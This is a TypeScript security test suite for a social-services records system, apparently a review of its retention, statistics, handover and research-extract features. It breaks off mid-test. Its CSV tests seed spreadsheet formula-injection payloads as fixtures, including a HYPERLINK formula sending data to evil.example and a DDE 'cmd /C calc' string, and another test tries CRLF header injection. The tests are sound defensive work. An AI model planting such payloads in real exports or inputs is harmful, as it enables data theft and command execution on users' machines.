/**
 * Security review probes for issue 13 (retention and disposal, statistics and their CSV, handover at the end of
 * a commission, research extracts). Every test asserts the SECURE behaviour: a failing test is a finding.
 * Disposal probes run last (they remove records of the demo world).
 */
import { createHmac, randomUUID } from 'node:crypto';
import {
  careDays,
  clientRelationships,
  clients,
  commissions,
  dataSubjectRequests,
  DEMO,
  DEMO_PARTNER_TOKEN,
  disposalRuns,
  entries,
  handovers,
  placements,
  researchPermits,
} from '@vartija/db';
import { rowsOf } from '@vartija/kit';
import { and, eq, inArray, sql } from 'drizzle-orm';
import { codesOf, startTestStack, SwitchableAuditSink, type TestStack } from '../testkit';

let t: TestStack;
let offsetDays = 0;
const sink = new SwitchableAuditSink(() => t.database);
let readOnlyPartner = '';
let writePartner2 = '';

beforeAll(async () => {
  t = await startTestStack({ auditSink: sink, clock: () => new Date(Date.now() + offsetDays * 86_400_000) });
  const issue = async (scopes: string[]) => {
    const r = await t.execute<{ issueApiToken: { token: string } }>({
      as: 'admin',
      query: `mutation ($input: IssueApiTokenInput!) { issueApiToken(input: $input) { token } }`,
      variables: { input: { organisationId: MAJAKKA, name: `probe ${scopes.join(' ')}`, scopes, expiresInDays: 30 } },
    });
    expect(r.errors).toBeUndefined();
    return r.data!.issueApiToken.token;
  };
  readOnlyPartner = await issue(['clients:read', 'services:read', 'documents:read']);
  writePartner2 = await issue(['clients:read', 'services:read', 'documents:read', 'documents:write']);
}, 120_000);
afterAll(() => t?.close());
afterEach(() => {
  sink.failing = false;
  offsetDays = 0;
});

const db = () => t.database.db;
const REGION = DEMO.organisations.region.id;
const REGION_B = DEMO.organisations['region-b'].id;
const MAJAKKA = DEMO.organisations.majakka.id;
const CW = DEMO.units['child-welfare'].id;
const FAMILY = DEMO.units['family-services'].id;
const UNKNOWN_ID = '00000000-0000-4000-8000-000000000000';

type Login = string;
const creds = (login: Login) =>
  login === 'majakka' ? { token: DEMO_PARTNER_TOKEN } : login === 'majakka-ro' ? { token: readOnlyPartner } : login === 'majakka-2' ? { token: writePartner2 } : { as: login };
const helsinkiDay = (d = new Date()) => new Intl.DateTimeFormat('en-CA', { timeZone: 'Europe/Helsinki' }).format(d);
const addDays = (day: string, n: number) => new Date(Date.parse(`${day}T12:00:00Z`) + n * 86_400_000).toISOString().slice(0, 10);
const logOf = (r: { headers: Record<string, string> }) => db().select().from(entries).where(eq(entries.requestId, r.headers['x-request-id']!));
async function exec<T = Record<string, unknown>>(login: Login, query: string, variables: Record<string, unknown> = {}) {
  try {
    return await t.execute<T>({ ...creds(login), query, variables });
  } catch (error) {
    // e.g. student-ended cannot get a token at all: no data, which is the secure outcome.
    return { status: 401, data: null, errors: [{ message: String(error), extensions: { code: 'UNAUTHENTICATED' } }], headers: {} as Record<string, string> };
  }
}

// ---- fixtures ----
let serial = 0;
async function newClient(values: Partial<typeof clients.$inferInsert> = {}, organisationId = REGION): Promise<string> {
  serial += 1;
  const id = randomUUID();
  await db()
    .insert(clients)
    .values({ id, organisationId, firstName: 'Probe', lastName: `Review13-${serial}`, dateOfBirth: '1995-06-01', municipality: 'Probeby', ...values });
  return id;
}
async function relationship(clientId: string, unitId: string, startedOn: string, endedOn: string | null) {
  await db()
    .insert(clientRelationships)
    .values({ clientId, unitId, serviceTask: unitId === FAMILY ? 'FAMILY_SERVICES' : 'CHILD_WELFARE', startedOn, endedOn });
}
async function placementWithDays(clientId: string, unitId: string, kind: 'KINSHIP_CARE' | 'FAMILY_CARE', startsOn: string, endsOn: string | null, days: string[]) {
  const [p] = await db().insert(placements).values({ clientId, unitId, kind, providerName: 'Probe home', startsOn, endsOn }).returning({ id: placements.id });
  if (days.length) await db().insert(careDays).values(days.map((day) => ({ placementId: p!.id, day, costCents: 1000 })));
  return p!.id;
}
const daysOf = (month: string, from: number, to: number) => Array.from({ length: to - from + 1 }, (_, i) => `${month}-${String(from + i).padStart(2, '0')}`);

const STATS = `query ($report: StatisticsReport!, $from: Date!, $to: Date!) { statistics(report: $report, from: $from, to: $to) { columns rows } }`;
async function stats(report: string, from: string, to: string, login = 'admin'): Promise<string[][]> {
  const r = await exec<{ statistics: { rows: string[][] } }>(login, STATS, { report, from, to });
  expect(r.errors).toBeUndefined();
  return r.data!.statistics.rows;
}

// =================================================================================================
// 1. Who may use the lifecycle operations (persona × operation); every refusal logged DENIED
// =================================================================================================
describe('authorisation table of the lifecycle reads', () => {
  const OPS: Record<string, { query: string; variables?: Record<string, unknown>; allowed: string[] }> = {
    retentionConfiguration: { query: '{ retentionConfiguration { version } }', allowed: ['admin', 'dpo', 'dpo-student', 'dpo-b'] },
    retentionDue: { query: '{ retentionDue { clientId } }', allowed: ['admin'] },
    disposalRuns: { query: '{ disposalRuns { id } }', allowed: ['admin', 'dpo', 'dpo-student', 'dpo-b'] },
    statistics: {
      query: STATS,
      variables: { report: 'DECISIONS_BY_TYPE', from: '2020-01-01', to: '2020-12-31' },
      allowed: ['admin', 'dpo', 'dpo-student', 'dpo-b', 'mgr-child', 'mgr-family-sw-child'],
    },
    researchPermits: { query: '{ researchPermits { id } }', allowed: ['admin', 'dpo', 'dpo-student', 'dpo-b'] },
  };
  const PERSONAS = ['sw-child', 'sw-family', 'sw-adult', 'mgr-child', 'student-child', 'student-ended', 'billing', 'dpo', 'admin', 'majakka', 'majakka-ro', 'majakka-2', 'sw-adult-student', 'mgr-family-sw-child', 'billing-student', 'dpo-student', 'sw-b', 'dpo-b'];
  const cases = Object.entries(OPS).flatMap(([op, spec]) => PERSONAS.map((p) => [op, p, spec.allowed.includes(p)] as const));
  test.each(cases)('%s as %s (allowed: %s)', async (op, persona, allowed) => {
    const spec = OPS[op]!;
    const r = await exec(persona, spec.query, spec.variables);
    if (allowed) {
      expect(r.errors).toBeUndefined();
      return;
    }
    expect(r.data?.[op as never] ?? null).toBeNull();
    expect(['FORBIDDEN', 'UNAUTHENTICATED']).toContain(codesOf(r)[0]);
    // student-ended is refused by the gateway at authentication (its only grant ended): outside issue 13.
    if (codesOf(r)[0] === 'FORBIDDEN' && persona !== 'student-ended') {
      const log = await logOf(r);
      expect(log.some((e) => e.outcome === 'DENIED')).toBe(true);
    }
  });
});

describe('lifecycle mutations by the wrong persona change nothing and are logged DENIED', () => {
  const WRONG = ['dpo', 'mgr-child', 'sw-child', 'majakka', 'majakka-2', 'dpo-b', 'sw-b', 'dpo-student', 'billing-student', 'mgr-family-sw-child'];
  test.each(WRONG)('setRetentionConfiguration / runDisposal / recordResearchPermit as %s', async (persona) => {
    const before = await db().select().from(disposalRuns);
    const permitsBefore = await db().select().from(researchPermits);
    const set = await exec(persona, `mutation ($i: RetentionConfigurationInput!) { setRetentionConfiguration(input: $i, expectedVersion: 1) { version } }`, {
      i: { classes: [{ trigger: 'RELATIONSHIP_END', retainMonths: 0, action: 'DELETE', legalSource: 'probe' }], disposalMonths: [] },
    });
    const run = await exec(persona, `mutation { runDisposal(asOf: "2020-03-01", dryRun: true) { id } }`);
    const permit = await exec(persona, `mutation ($i: ResearchPermitInput!) { recordResearchPermit(input: $i) { id } }`, {
      i: { permitNumber: `x-${persona}`, researcher: 'R', researchOrganisation: 'O', purpose: 'P', fields: ['BIRTH_YEAR'], serviceTasks: ['CHILD_WELFARE'], periodFrom: '2020-01-01', periodTo: '2020-12-31', expiresOn: '2099-01-01' },
    });
    for (const r of [set, run, permit]) {
      expect(codesOf(r)[0]).toBe('FORBIDDEN');
      expect((await logOf(r)).some((e) => e.outcome === 'DENIED')).toBe(true);
    }
    expect(await db().select().from(disposalRuns)).toHaveLength(before.length);
    expect(await db().select().from(researchPermits)).toHaveLength(permitsBefore.length);
  });
});

// =================================================================================================
// 2. Statistics: small cells recomputable by differencing
// =================================================================================================
describe('statistics: a suppressed figure cannot be recomputed', () => {
  beforeAll(async () => {
    // 2003: a year the demo world has nothing in. Six children born 1995 start child welfare in January 2003:
    // five live in Probeby, one in Lonelyville. A seventh starts in February.
    for (let i = 0; i < 5; i++) await relationship(await newClient({ municipality: 'Probeby' }), CW, '2003-01-15', null);
    await relationship(await newClient({ municipality: 'Lonelyville' }), CW, '2003-01-20', null);
    await relationship(await newClient({ municipality: 'Probeby' }), CW, '2003-02-10', null);
    // Care days: five persons in January 2003 (10 days each); one of them also 7 days in February.
    const cared: string[] = [];
    for (let i = 0; i < 5; i++) {
      const c = await newClient({ municipality: 'Caretown' });
      await relationship(c, CW, '2002-06-01', null);
      cared.push(c);
      await placementWithDays(c, CW, 'FAMILY_CARE', '2003-01-01', i === 0 ? '2003-02-28' : '2003-01-31', [...daysOf('2003-01', 1, 10), ...(i === 0 ? daysOf('2003-02', 1, 7) : [])]);
    }
  });

  test('the Lonelyville child cannot be recovered from CLIENTS_BY… and RELATIONSHIPS_STARTED_ENDED of the same month', async () => {
    const byArea = await stats('CLIENTS_BY_SERVICE_TASK_AGE_MUNICIPALITY', '2003-01-01', '2003-01-31');
    const started = await stats('RELATIONSHIPS_STARTED_ENDED', '2003-01-01', '2003-01-31');
    const cw = byArea.filter((r) => r[0] === 'CHILD_WELFARE');
    const startedCw = started.find((r) => r[0] === 'CHILD_WELFARE');
    // New clients of the month only (nobody else has a relationship in January 2003 other than the Caretown five, begun 2002).
    // Any cell that is not a number is hidden: "<5", or ".." (a confidential figure; fixed by the helper of
    // issue 13's fixes: the probe read only "<5" as hidden and summed ".." as a number).
    const isShown = (cell: string | undefined) => /^\d+$/.test(cell ?? '');
    const suppressed = cw.filter((r) => !isShown(r[3]));
    const shownSum = cw.filter((r) => isShown(r[3])).reduce((s, r) => s + Number(r[3]), 0);
    // Caretown's five began in 2002: they are in CLIENTS_BY (overlap) but not in "started".
    const caretown = cw.filter((r) => r[2] === 'Caretown').reduce((s, r) => s + (isShown(r[3]) ? Number(r[3]) : 0), 0);
    const recovered = suppressed.length === 1 && startedCw && /^\d+$/.test(startedCw[1]!) ? Number(startedCw[1]) - (shownSum - caretown) : null;
    // Secure: no single suppressed cell is the difference of shown figures.
    expect({ suppressedCell: suppressed[0], recovered }).toEqual({ suppressedCell: suppressed[0], recovered: null });
  });

  // Fixed with the brief of issue 13's fixes: only calendar periods may be asked (a month, a quarter, a
  // half-year, a year), so the probe's arbitrary window Jan–Feb is refused; the probes below use allowed periods.
  const janFebRefused = async (report: string) => {
    const r = await exec<{ statistics: unknown }>('admin', STATS, { report, from: '2003-01-01', to: '2003-02-28' });
    expect(codesOf(r)).toEqual(['BAD_USER_INPUT']);
    expect(r.data?.statistics ?? null).toBeNull();
  };

  test('a February figure shown "<5" cannot be recovered as (Jan–Feb) − (Jan): Jan–Feb is no period one may ask for', async () => {
    const feb = (await stats('RELATIONSHIPS_STARTED_ENDED', '2003-02-01', '2003-02-28')).find((r) => r[0] === 'CHILD_WELFARE');
    expect(feb?.[1]).toBe('<5');
    await janFebRefused('RELATIONSHIPS_STARTED_ENDED');
  });

  test('care days shown ".." for February cannot be recovered as (Jan–Feb) − (Jan): Jan–Feb is no period one may ask for', async () => {
    const feb = (await stats('PLACEMENTS_AND_CARE_DAYS', '2003-02-01', '2003-02-28')).find((r) => r[0] === 'FAMILY_CARE');
    expect(feb?.[2]).toBe('..');
    await janFebRefused('PLACEMENTS_AND_CARE_DAYS');
  });

  // KNOWN LIMITATION (residual differencing risk, reported to the lead): the figures are exact (the issue asks
  // for exact counts with "<5" suppression, so no noise) and add up over calendar periods, so a month's hidden
  // cell is its quarter minus the quarter's other two months whenever those three are shown. Complementary
  // suppression works within one table, not across periods. These probes keep their secure assertion and are
  // expected to fail (test.failing) until suppression linked across nested periods (or rounding) is decided;
  // then drop `.failing`.
  test.failing('KNOWN LIMITATION: a February figure shown "<5" recovered as Q1 − January − March', async () => {
    const cwOf = (rows: string[][]) => rows.find((r) => r[0] === 'CHILD_WELFARE')?.[1] ?? '0';
    const feb = cwOf(await stats('RELATIONSHIPS_STARTED_ENDED', '2003-02-01', '2003-02-28'));
    const jan = cwOf(await stats('RELATIONSHIPS_STARTED_ENDED', '2003-01-01', '2003-01-31'));
    const mar = cwOf(await stats('RELATIONSHIPS_STARTED_ENDED', '2003-03-01', '2003-03-31'));
    const q1 = cwOf(await stats('RELATIONSHIPS_STARTED_ENDED', '2003-01-01', '2003-03-31'));
    expect(feb).toBe('<5');
    const recovered = [jan, mar, q1].every((c) => /^\d+$/.test(c)) ? Number(q1) - Number(jan) - Number(mar) : null;
    expect(recovered).toBeNull();
  });

  test.failing('KNOWN LIMITATION: care days shown ".." for February recovered as Q1 − January − March', async () => {
    const daysOfRows = (rows: string[][]) => rows.find((r) => r[0] === 'FAMILY_CARE')?.[2] ?? '0';
    const feb = daysOfRows(await stats('PLACEMENTS_AND_CARE_DAYS', '2003-02-01', '2003-02-28'));
    const jan = daysOfRows(await stats('PLACEMENTS_AND_CARE_DAYS', '2003-01-01', '2003-01-31'));
    const mar = daysOfRows(await stats('PLACEMENTS_AND_CARE_DAYS', '2003-03-01', '2003-03-31'));
    const q1 = daysOfRows(await stats('PLACEMENTS_AND_CARE_DAYS', '2003-01-01', '2003-03-31'));
    expect(feb).toBe('..');
    // The one person's February care days (7) must not be derivable.
    const recovered = [jan, mar, q1].every((c) => /^\d+$/.test(c)) ? Number(q1) - Number(jan) - Number(mar) : null;
    expect(recovered).toBeNull();
  });
});

// =================================================================================================
// 3. The CSV route
// =================================================================================================
describe('statistics CSV route', () => {
  const path = '/exports/statistics/CLIENTS_BY_SERVICE_TASK_AGE_MUNICIPALITY.csv?from=2005-03-01&to=2005-03-31';
  beforeAll(async () => {
    for (const m of ['=HYPERLINK("http://evil.example/?"&A1)', '+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)', '\t=1+1', '\r=1+1', '"=1+1', 'a\r\n=1+1']) {
      await relationship(await newClient({ municipality: m }), CW, '2005-03-10', '2005-03-20');
    }
  });

  test('without a token: 401, nothing of the report', async () => {
    const r = await t.gateway().get(path);
    expect(r.status).toBe(401);
    expect(r.text).not.toContain('CHILD_WELFARE');
  });

  test.each(['sw-child', 'billing', 'student-child', 'sw-adult-student'])('as %s: 403 and a DENIED EXPORT entry', async (persona) => {
    const r = await t.gateway().get(path).set('authorization', `Bearer ${await t.tokenFor(persona)}`);
    expect(r.status).toBe(403);
    expect(r.text).not.toContain('CHILD_WELFARE');
    const log = await db().select().from(entries).where(eq(entries.requestId, r.headers['x-request-id']!));
    expect(log.some((e) => e.outcome === 'DENIED' && e.action === 'EXPORT')).toBe(true);
  });

  test('as the partner token: 403', async () => {
    const r = await t.gateway().get(path).set('authorization', `Bearer ${DEMO_PARTNER_TOKEN}`);
    expect(r.status).toBe(403);
  });

  test('header injection through the query string is refused, no header added', async () => {
    const r = await t
      .gateway()
      .get('/exports/statistics/DECISIONS_BY_TYPE.csv?from=2005-03-01%0d%0aX-Evil:%201&to=2005-03-31')
      .set('authorization', `Bearer ${await t.tokenFor('dpo')}`);
    expect(r.status).toBe(400);
    expect(r.headers['x-evil']).toBeUndefined();
    const r2 = await t.gateway().get('/exports/statistics/DECISIONS_BY_TYPE%0d%0aX-Evil:1.csv?from=2005-03-01&to=2005-03-31').set('authorization', `Bearer ${await t.tokenFor('dpo')}`);
    expect(r2.status).toBe(400);
    expect(r2.headers['x-evil']).toBeUndefined();
  });

  test('no cell of the CSV can run as a formula', async () => {
    const r = await t.gateway().get(path).set('authorization', `Bearer ${await t.tokenFor('dpo')}`);
    expect(r.status).toBe(200);
    // Parse RFC 4180.
    const cells: string[] = [];
    let i = 0;
    const s = r.text;
    while (i < s.length) {
      let cell = '';
      if (s[i] === '"') {
        i++;
        for (;;) {
          if (s[i] === '"' && s[i + 1] === '"') {
            cell += '"';
            i += 2;
          } else if (s[i] === '"') {
            i++;
            break;
          } else cell += s[i++];
        }
      } else while (i < s.length && s[i] !== ',' && s[i] !== '\r') cell += s[i++];
      cells.push(cell);
      if (s[i] === ',') i++;
      else if (s[i] === '\r') i += 2;
    }
    const dangerous = cells.filter((c) => /^[=+\-@\t\r\n]/.test(c));
    expect(dangerous).toEqual([]);
  });
});

// =================================================================================================
// 4. Handover
// =================================================================================================
describe('handover', () => {
  const H = `id status clientId items { entityType entityId kind contentSha256 }`;
  const HAND = `mutation ($id: ID!) { handOverCommission(id: $id) { ${H} } }`;
  const CONFIRM = `mutation ($id: ID!) { confirmHandover(id: $id) { ${H} } }`;
  const READ = `query ($id: ID!) { handover(id: $id) { ${H} } }`;
  async function newCommission(clientId = DEMO.clients.majakkaActive[0]!) {
    const [row] = await db()
      .insert(commissions)
      .values({ clientId, commissionerUnitId: CW, partnerOrganisationId: MAJAKKA, kind: 'PLACEMENT', startsOn: '2024-01-01' })
      .returning({ id: commissions.id });
    return row!.id;
  }

  test.each(['sw-family', 'sw-adult', 'sw-b', 'dpo', 'dpo-b', 'admin', 'billing', 'majakka-ro', 'billing-student', 'student-ended'])(
    'handOverCommission as %s is refused and leaves nothing',
    async (persona) => {
      const id = await newCommission();
      const r = await exec(persona, HAND, { id });
      expect(r.data?.handOverCommission ?? null).toBeNull();
      expect(['FORBIDDEN', 'NOT_FOUND', 'UNAUTHENTICATED']).toContain(codesOf(r)[0]);
      expect(await db().select().from(handovers).where(eq(handovers.commissionId, id))).toHaveLength(0);
      // No DISCLOSE entry for a refused handover.
      if (r.headers['x-request-id']) expect((await logOf(r)).filter((e) => e.action === 'DISCLOSE')).toHaveLength(0);
    },
  );

  test('another region / unknown id: the same answer (no existence leak)', async () => {
    const id = await newCommission();
    const a = await exec('sw-b', HAND, { id });
    const b = await exec('sw-b', HAND, { id: UNKNOWN_ID });
    expect(codesOf(a)).toEqual(codesOf(b));
    expect(a.errors?.[0]?.message.replace(id, 'X')).toBe(b.errors?.[0]?.message.replace(UNKNOWN_ID, 'X'));
  });

  test('the partner hands over a commission that has ended: refused', async () => {
    const r = await exec('majakka', HAND, { id: DEMO.commissions.majakkaEnded });
    expect(r.data?.handOverCommission ?? null).toBeNull();
    expect(['FORBIDDEN', 'NOT_FOUND']).toContain(codesOf(r)[0]);
  });

  test('confirmation: not by the partner, not by another region; after it the partner reaches nothing (not even the package)', async () => {
    const id = await newCommission();
    const h = await exec<{ handOverCommission: { id: string; clientId: string } }>('majakka', HAND, { id });
    expect(h.errors).toBeUndefined();
    const handoverId = h.data!.handOverCommission.id;
    for (const p of ['majakka', 'majakka-2', 'sw-b', 'dpo', 'sw-family']) {
      const r = await exec(p, CONFIRM, { id: handoverId });
      expect(['FORBIDDEN', 'NOT_FOUND']).toContain(codesOf(r)[0]);
    }
    // Another region's staff: the same answer as for an unknown id.
    const x = await exec('sw-b', CONFIRM, { id: handoverId });
    const y = await exec('sw-b', CONFIRM, { id: UNKNOWN_ID });
    expect(codesOf(x)).toEqual(codesOf(y));
    expect((await db().select().from(handovers).where(eq(handovers.id, handoverId)))[0]!.status).toBe('PACKAGED');

    const c = await exec('sw-child', CONFIRM, { id: handoverId });
    expect(c.errors).toBeUndefined();
    const history = await exec<{ history: unknown[] }>('majakka', `query ($id: ID!) { history(entityType: "Commission", id: $id) { reason } }`, { id });
    expect(history.data?.history ?? []).toEqual([]);
    // A second handover of the ended commission by the partner: refused.
    expect(['FORBIDDEN', 'NOT_FOUND', 'CONFLICT']).toContain(codesOf(await exec('majakka', HAND, { id }))[0]);
    // The partner's access ends: its package (client id, entity ids, kinds, hashes) is not answered any more.
    for (const p of ['majakka', 'majakka-2', 'majakka-ro']) {
      const r = await exec<{ handover: unknown }>(p, READ, { id: handoverId });
      expect([p, r.data?.handover ?? null]).toEqual([p, null]);
    }
  });

  test('handover read by another region or a wrong unit: null, same as unknown', async () => {
    const id = await newCommission();
    const h = await exec<{ handOverCommission: { id: string } }>('sw-child', HAND, { id });
    expect(h.errors).toBeUndefined();
    for (const p of ['sw-b', 'dpo-b', 'sw-family', 'sw-adult', 'billing', 'majakka-ro']) {
      const r = await exec<{ handover: unknown }>(p, READ, { id: h.data!.handOverCommission.id });
      expect([p, r.data?.handover ?? null]).toEqual([p, null]);
    }
  });

  test('fail closed: the log cannot be written → no handover, no confirmation, no end of the commission', async () => {
    const id = await newCommission();
    sink.failing = true;
    const r = await exec('sw-child', HAND, { id });
    sink.failing = false;
    expect(r.data?.handOverCommission ?? null).toBeNull();
    expect(await db().select().from(handovers).where(eq(handovers.commissionId, id))).toHaveLength(0);

    const ok = await exec<{ handOverCommission: { id: string } }>('sw-child', HAND, { id });
    expect(ok.errors).toBeUndefined();
    sink.failing = true;
    const c = await exec('sw-child', CONFIRM, { id: ok.data!.handOverCommission.id });
    sink.failing = false;
    expect(c.data?.confirmHandover ?? null).toBeNull();
    expect((await db().select().from(handovers).where(eq(handovers.commissionId, id)))[0]!.status).toBe('PACKAGED');
    expect((await db().select().from(commissions).where(eq(commissions.id, id)))[0]!.endsOn).toBeNull();
    sink.failing = true;
    const read = await exec<{ handover: unknown }>('sw-child', READ, { id: ok.data!.handOverCommission.id });
    sink.failing = false;
    expect(read.data?.handover ?? null).toBeNull();
  });
});

// =================================================================================================
// 5. Research extracts
// =================================================================================================
describe('research extract', () => {
  const PERMIT = `mutation ($i: ResearchPermitInput!) { recordResearchPermit(input: $i) { id } }`;
  const EXTRACT = `query ($id: ID!) { researchExtract(permitId: $id) { columns rows } }`;
  const today = () => helsinkiDay();
  async function permit(n: string, fields: string[], expiresOn = addDays(today(), 30)) {
    const r = await exec<{ recordResearchPermit: { id: string } }>('admin', PERMIT, {
      i: { permitNumber: n, researcher: 'Tutkija', researchOrganisation: 'Yliopisto', purpose: 'Tutkimus', fields, serviceTasks: ['CHILD_WELFARE'], periodFrom: '2000-01-01', periodTo: today(), expiresOn },
    });
    expect(r.errors).toBeUndefined();
    return r.data!.recordResearchPermit.id;
  }
  let a = '';
  let b = '';
  beforeAll(async () => {
    a = await permit(`R13-A-${randomUUID()}`, ['BIRTH_YEAR', 'MUNICIPALITY', 'RELATIONSHIP_PERIOD']);
    b = await permit(`R13-B-${randomUUID()}`, ['BIRTH_YEAR', 'MUNICIPALITY', 'RELATIONSHIP_PERIOD']);
  });
  const extract = async (id: string, login = 'admin') => exec<{ researchExtract: { columns: string[]; rows: string[][] } }>(login, EXTRACT, { id });

  test('no identifier in the extract, pseudonyms disjoint across permits, one EXPORT per client', async () => {
    const ra = await extract(a);
    expect(ra.errors).toBeUndefined();
    const ids = new Set((await db().select({ id: clients.id }).from(clients)).map((c) => c.id));
    const flat = ra.data!.researchExtract.rows.flat();
    expect(flat.filter((c) => ids.has(c) || /[0-9a-f]{8}-[0-9a-f]{4}-/.test(c))).toEqual([]);
    const rb = await extract(b);
    const pa = new Set(ra.data!.researchExtract.rows.map((r) => r[0]));
    expect(rb.data!.researchExtract.rows.filter((r) => pa.has(r[0]))).toEqual([]);
    const log = await logOf(ra);
    const exported = new Set(log.filter((e) => e.entityType === 'Client' && e.action === 'EXPORT').map((e) => e.clientId));
    expect(exported.size).toBe(ra.data!.researchExtract.rows.length);
  });

  // Full unlinkability cannot be had: two permits naming the same fields give the same values for the same
  // person, and a rare combination (birth year, municipality, months) is unique in both. What the extract
  // promises (Query.researchExtract in the SDL) is coarsening — no exact day in any cell, periods as months —
  // and pseudonyms disjoint across permits; the rest is the permit's data protection impact assessment.
  test('rows of two permits cannot be linked through their non-pseudonym cells', async () => {
    const ea = (await extract(a)).data!.researchExtract;
    const rb = (await extract(b)).data!.researchExtract.rows;
    const ra = ea.rows;
    expect(ra.length).toBeGreaterThan(0);
    expect([...ra, ...rb].flat().filter((c) => /\d{4}-\d{2}-\d{2}/.test(c))).toEqual([]);
    const period = ea.columns.indexOf('RELATIONSHIP_PERIOD');
    expect(ra.map((r) => r[period]).filter((v) => !/^\d{4}-\d{2}–\d{4}-\d{2}(;\d{4}-\d{2}–\d{4}-\d{2})*$/.test(v!))).toEqual([]);
    const pa = new Set(ra.map((r) => r[0]));
    expect(rb.filter((r) => pa.has(r[0]))).toEqual([]);
  });

  test('a non-disclosure client\'s municipality (CONTACT, protected) is not given to the researcher', async () => {
    const key = (await db().select().from(researchPermits).where(eq(researchPermits.id, a)))[0]!.pseudonymKey;
    const rows = (await extract(a)).data!.researchExtract.rows;
    const protectedClients = await db().select().from(clients).where(and(eq(clients.organisationId, REGION), eq(clients.addressNonDisclosure, true)));
    const leaked = protectedClients
      .map((c) => ({ c, row: rows.find((r) => r[0] === createHmac('sha256', Buffer.from(key, 'hex')).update(c.id, 'utf8').digest('hex').slice(0, 16)) }))
      .filter(({ c, row }) => row && c.municipality && row[2] === c.municipality)
      .map(({ c }) => c.id);
    expect(leaked).toEqual([]);
  });

  test('existence of a permit is not revealed to a persona who may not extract (same answer as an unknown id), and both refusals logged', async () => {
    for (const p of ['sw-child', 'mgr-child', 'dpo']) {
      const known = await extract(a, p);
      const unknown = await extract(randomUUID(), p);
      expect([p, codesOf(known)]).toEqual([p, codesOf(unknown)]);
      expect((await logOf(unknown)).some((e) => e.outcome === 'DENIED')).toBe(true);
    }
  });

  test('another organisation: NOT_FOUND like an unknown id', async () => {
    const r = await extract(a, 'dpo-b');
    expect(codesOf(r)).toEqual(codesOf(await extract(randomUUID(), 'dpo-b')));
    expect(r.data?.researchExtract ?? null).toBeNull();
  });

  test('an expired permit gives nothing, refusal logged', async () => {
    const id = await permit(`R13-EXP-${randomUUID()}`, ['BIRTH_YEAR'], addDays(today(), 1));
    offsetDays = 3;
    const r = await extract(id);
    expect(codesOf(r)[0]).toBe('FORBIDDEN');
    const log = await logOf(r);
    expect(log.some((e) => e.outcome === 'DENIED' && e.action === 'EXPORT')).toBe(true);
    expect(log.filter((e) => e.entityType === 'Client')).toHaveLength(0);
  });

  test('fail closed: the log cannot be written → no extract; no permit recorded', async () => {
    sink.failing = true;
    const r = await extract(a);
    const n = `R13-FAIL-${randomUUID()}`;
    const p = await exec('admin', PERMIT, {
      i: { permitNumber: n, researcher: 'T', researchOrganisation: 'Y', purpose: 'P', fields: ['BIRTH_YEAR'], serviceTasks: ['CHILD_WELFARE'], periodFrom: '2000-01-01', periodTo: today(), expiresOn: addDays(today(), 5) },
    });
    const s = await exec<{ statistics: unknown }>('admin', STATS, { report: 'DECISIONS_BY_TYPE', from: '2020-01-01', to: '2020-12-31' });
    sink.failing = false;
    expect(r.data?.researchExtract ?? null).toBeNull();
    expect(p.data?.recordResearchPermit ?? null).toBeNull();
    expect(await db().select().from(researchPermits).where(eq(researchPermits.permitNumber, n))).toHaveLength(0);
    expect(s.data?.statistics ?? null).toBeNull();
  });
});

// =================================================================================================
// 6. Disposal (last: it removes records)
// =================================================================================================
describe('disposal', () => {
  const SOURCE = 'Rekisteriseloste (seed 003): noin vuosi asiakkuuden päättymisestä';
  const DUE = `query ($asOf: Date) { retentionDue(asOf: $asOf) { clientId serviceTask recordType count action } }`;
  const RUN = `mutation ($asOf: Date!, $dryRun: Boolean!) { runDisposal(asOf: $asOf, dryRun: $dryRun) { id status clients failedClients items { clientId recordType serviceTask } } }`;
  /** The latest 1 March or 1 October not after today. */
  function lastDisposalDay(): string {
    const d = helsinkiDay();
    const y = Number(d.slice(0, 4));
    const candidates = [`${y}-10-01`, `${y}-03-01`, `${y - 1}-10-01`].filter((c) => c <= d);
    return candidates[0]!;
  }
  let asOf = '';
  let openCommission = '';
  let pendingRequest = '';
  let partial = '';
  let others: string[] = [];

  beforeAll(async () => {
    asOf = lastDisposalDay();
    const { version } = (await exec<{ retentionConfiguration: { version: number } }>('admin', '{ retentionConfiguration { version } }')).data!.retentionConfiguration;
    const set = await exec('admin', `mutation ($i: RetentionConfigurationInput!, $v: Int!) { setRetentionConfiguration(input: $i, expectedVersion: $v) { version } }`, {
      i: { classes: [{ trigger: 'RELATIONSHIP_END', retainMonths: 12, action: 'DELETE', legalSource: SOURCE }], disposalMonths: [3, 10] },
      v: version,
    });
    expect(set.errors).toBeUndefined();

    // A child whose relationship was (wrongly, or administratively) ended years ago, while majakka's commission
    // and the placement are still in force: the service lasts.
    openCommission = await newClient();
    await relationship(openCommission, CW, '2018-01-01', '2020-01-31');
    await db().insert(commissions).values({ clientId: openCommission, commissionerUnitId: CW, partnerOrganisationId: MAJAKKA, kind: 'PLACEMENT', startsOn: '2019-01-01' });
    await placementWithDays(openCommission, CW, 'FAMILY_CARE', '2019-06-01', null, []);

    // A former client whose access request (tarkastuspyyntö) is still pending.
    pendingRequest = await newClient();
    await relationship(pendingRequest, CW, '2018-01-01', '2020-01-31');
    await db().insert(dataSubjectRequests).values({ clientId: pendingRequest, unitId: CW, kind: 'ACCESS', status: 'RECEIVED', receivedOn: addDays(helsinkiDay(), -3), requesterKind: 'CLIENT', channel: 'LETTER', subject: 'probe' });

    // Partial disposal and small cells: four persons with KINSHIP_CARE care days in May 2004; one of them (partial)
    // has them in two tasks, child welfare (ended, due) and family services (open, kept).
    partial = await newClient({ municipality: 'Splitby' });
    await relationship(partial, CW, '2004-01-01', '2004-06-30');
    await relationship(partial, FAMILY, '2004-01-01', null);
    await placementWithDays(partial, CW, 'KINSHIP_CARE', '2004-05-01', '2004-05-31', daysOf('2004-05', 1, 10));
    await placementWithDays(partial, FAMILY, 'KINSHIP_CARE', '2004-05-01', '2004-05-31', daysOf('2004-05', 11, 20));
    others = [];
    for (let i = 0; i < 3; i++) {
      const c = await newClient({ municipality: 'Splitby' });
      await relationship(c, CW, '2004-01-01', null);
      await placementWithDays(c, CW, 'KINSHIP_CARE', '2004-05-01', '2004-05-31', daysOf('2004-05', 1, 5));
      others.push(c);
    }
  });

  test('not due while the commission and the placement are in force', async () => {
    const r = await exec<{ retentionDue: { clientId: string; recordType: string }[] }>('admin', DUE, { asOf });
    expect(r.errors).toBeUndefined();
    expect(r.data!.retentionDue.filter((i) => i.clientId === openCommission)).toEqual([]);
  });

  test('not due while a data-subject request about the records is pending', async () => {
